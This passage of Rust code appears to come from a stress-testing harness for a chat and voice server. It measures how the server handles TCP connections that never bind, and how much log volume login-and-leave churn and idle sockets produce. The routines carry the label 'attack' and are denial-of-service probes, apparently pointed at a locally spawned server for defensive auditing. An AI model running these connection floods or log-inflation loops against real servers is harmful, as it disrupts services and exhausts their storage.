        Ok(link) => {
            let took = ms(t.elapsed());
            link.close();
            format!("bound in {took} ms")
        }
        Err(e) => format!("failed: {e:#}"),
    };
    drop(socks);
    Ok(json!({
        "attack": "TCP connections to the voice port that never bind",
        "connections": n,
        "still_open_after_hold": alive,
        "real_tcp_bind": outcome,
    }))
}

/// Item 10, log volume: log bytes per login+leave cycle and per handshake
/// timeout, and what that comes to per day at the rate reached here.
fn log_volume(target: &mut Target, scale: Scale) -> Result<Value> {
    let n = scale.count(1000);
    let silent_n = (n / 2).max(1);
    let timeout_wait = scale.hold(11.0);
    let Some(b0) = target.log_bytes() else {
        bail!("log-volume needs --spawn-server (it reads the server's stderr)");
    };
    let t = Instant::now();
    for i in 0..n {
        if let Login::Welcome(mut raw, _) = attacker_login(
            target.chat,
            &format!("churn{}", i % 50),
            Duration::from_secs(3),
        ) {
            let _ = raw.send(&ClientMessage::Bye);
            raw.drain_to_close(Instant::now() + Duration::from_secs(1));
        }
    }
    let churn = t.elapsed();
    std::thread::sleep(Duration::from_millis(300));
    let b1 = target.log_bytes().unwrap_or(b0);
    let mut silent = Vec::new();
    for _ in 0..silent_n {
        if let Ok(s) = attacker_stream(target.chat, Duration::from_millis(500)) {
            silent.push(s);
        }
    }
    std::thread::sleep(timeout_wait);
    let b2 = target.log_bytes().unwrap_or(b1);
    drop(silent);
    let per_cycle = (b1 - b0) as f64 / n as f64;
    let rate = n as f64 / churn.as_secs_f64();
    Ok(json!({
        "attack": "login + bye churn from one address, then never-hello sockets left to time out",
        "cycles": n,
        "log_bytes_per_cycle": round2(per_cycle),
        "cycles_per_s": rate.round(),
        "log_gb_per_day_at_that_rate": round2(per_cycle * rate * 86_400.0 / 1e9),
        "silent_sockets": silent_n,
        "log_bytes_per_handshake_timeout": round2((b2 - b1) as f64 / silent_n as f64),
    }))
}
